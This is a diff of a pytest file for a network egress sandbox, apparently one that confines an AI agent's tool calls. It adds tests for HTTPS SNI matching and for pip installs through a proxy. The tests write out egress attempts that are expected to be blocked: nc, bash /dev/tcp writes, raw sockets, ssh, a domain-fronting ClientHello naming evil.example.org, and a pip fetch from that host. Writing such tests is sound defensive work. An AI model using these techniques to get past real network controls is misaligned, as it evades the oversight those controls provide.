@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import os
+import shutil
 import subprocess
 import time
 from collections.abc import Callable, Iterator
@@ -10,7 +11,7 @@ from collections.abc import Callable, Iterator
 import pytest
 from dnslib import QTYPE, RCODE, DNSRecord
 
-from conftest import OutsideHost, sandbox_run
+from conftest import OutsideHost, sandbox_run, shared_tmpdir
 from corral.egress import Egress, NetworkAttachment
 from corral.errors import EgressError
 from corral.events import Event, TraceContext
@@ -86,7 +87,7 @@ def test_direct_paths_all_fail_and_listener_sees_nothing(
         _py(_connect_code(outside.ip, 3333)),
         ["nc", "-z", "-w", "2", outside.ip, "3333"],
         ["bash", "-c", f"echo hi > /dev/tcp/{outside.ip}/22"],
-        _py(f"import socket;socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'x',({outside.ip!r},5353))"),
+        _py(f"import socket as s;s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(b'x',('{outside.ip}',5353))"),
         ["ping", "-c", "1", "-W", "1", outside.ip],
         _py(_connect_code(outside.ip6, 2222, "AF_INET6")),
         ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=3", "-o", "StrictHostKeyChecking=no",
@@ -159,8 +160,8 @@ def test_allowed_name_through_proxy_works_and_records_outside_tuple(
 ) -> None:
     ctx = TraceContext(run_id="r1", tool_call_id="curl-ok")
     att.begin_call(ctx)
-    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "http://pkg.test/simple/"])
-    assert r.stdout == "hello from /simple/", r
+    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "http://pkg.test/index"])
+    assert r.stdout == "hello from /index", r
     r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "-x", "", "--socks5-hostname",
                           f"{att.gateway}:{att.proxy_port}", "http://mirror.pkg.test/s5"])  # fmt: skip
     assert r.stdout == "hello from /s5", r
@@ -280,3 +281,58 @@ def test_cycles_leak_nothing(private_host: None) -> None:
             a.close()
     time.sleep(0.1)
     assert state() == before
+
+
+def test_https_through_connect_and_sni_must_match(
+    att: NetworkAttachment, outside: OutsideHost, tls_cert: tuple[str, str]
+) -> None:
+    ctx = TraceContext(run_id="r1", tool_call_id="https")
+    att.begin_call(ctx)
+    r = sandbox_run(att, ["curl", "-sS", "--max-time", "5", "--cacert", tls_cert[0], "https://pkg.test/tls"])
+    assert r.stdout == "tls hello from /tls", r
+    # CONNECT to an allowed name, then a ClientHello naming another host: domain fronting, refused
+    code = (
+        "import socket,ssl\n"
+        f"s=socket.create_connection(({att.gateway!r},{att.proxy_port}),timeout=5)\n"
+        "s.sendall(b'CONNECT pkg.test:443 HTTP/1.1\\r\\n\\r\\n');print(s.recv(100))\n"
+        "c=ssl.create_default_context();c.check_hostname=False;c.verify_mode=ssl.CERT_NONE\n"
+        "try:\n c.wrap_socket(s,server_hostname='evil.example.org');print('TLS-OK')\n"
+        "except OSError as e: print('TLS-FAIL',e)"
+    )
+    r = sandbox_run(att, _py(code))
+    assert "200 Connection established" in r.stdout and "TLS-FAIL" in r.stdout, r
+    att.end_call()
+    evs = [e.data for e in att_events(att) if e.ctx == ctx]
+    assert [(e.decision, e.rule, e.proxy_protocol) for e in evs] == [  # type: ignore[union-attr]
+        ("allowed", "allow:pkg.test:80,443", "http-connect"),
+        ("denied", "sni-mismatch:evil.example.org", "http-connect"),
+    ]
+
+
+def test_pip_installs_from_a_local_index_through_the_proxy(
+    att: NetworkAttachment, tls_cert: tuple[str, str]
+) -> None:
+    dest = shared_tmpdir(0o777)
+    pip = [
+        "/usr/bin/python3",
+        "-m",
+        "pip",
+        "download",
+        "--no-deps",
+        "--no-cache-dir",
+        "--disable-pip-version-check",
+    ]
+    r = sandbox_run(
+        att,
+        [*pip, "--cert", tls_cert[0], "--index-url", "https://pkg.test/simple/", "-d", dest, "tinypkg"],
+        60,
+    )
+    assert r.returncode == 0, r.stderr
+    assert os.listdir(dest) == ["tinypkg-0.1-py3-none-any.whl"]
+    r = sandbox_run(
+        att,
+        [*pip, "--retries", "0", "--index-url", "http://evil.example.org/simple/", "-d", dest, "tinypkg"],
+        60,
+    )
+    assert r.returncode != 0
+    shutil.rmtree(dest)
